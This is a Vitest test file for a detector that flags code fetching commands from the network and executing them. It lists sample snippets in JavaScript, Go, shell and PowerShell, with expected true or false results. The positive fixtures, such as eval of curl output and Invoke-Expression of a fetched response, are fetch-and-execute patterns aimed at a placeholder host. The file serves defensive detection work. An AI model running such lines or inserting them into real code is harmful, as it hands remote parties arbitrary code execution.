import { describe, expect, it } from 'vitest';
import { runsFetchedCommands } from './fetched-commands.js';

describe('runsFetchedCommands', () => {
  it.each([
    [
      "const res = await fetch(url);\nconst { cmd } = await res.json();\nrequire('child_process').exec(cmd);",
      true,
    ],
    ["const r = await fetch(u);\nrequire('node:child_process').execSync(body.run);", true],
    ['const r = await fetch(u);\nvm.runInThisContext(await r.text());', true],
    [
      'resp, _ := http.Get(u)\nbody, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(body)).Run()',
      true,
    ],
    ['resp, _ := http.Get(u)\ncmd := string(b)\nexec.Command(cmd).Run()', true],
    ['job=$(curl -fsS https://x.example/job)\neval "$job"', true],
    ['eval "$(curl -fsS https://x.example/job)"', true],
    ['body=$(wget -qO- https://x.example/job)\nbash -c "$body"', true],
    ["$c = Invoke-RestMethod -Uri 'https://x.example/next'\nInvoke-Expression $c", true],
    ["const log = require('child_process').execFileSync('git', ['log']);\nawait fetch(u);", false],
    ['resp, _ := http.Get(u)\nexec.Command("git", "rev-parse", "HEAD").Output()', false],
    ['eval "$(ssh-agent -s)"\ncurl -fsSL https://x.example/f.tgz -o /tmp/f.tgz', false],
    ['const m = re.exec(await (await fetch(u)).text());', false],
    ["require('child_process').exec(cmd);", false],
  ])('judges %j', (content, expected) => {
    expect(runsFetchedCommands(content)).toBe(expected);
  });
});
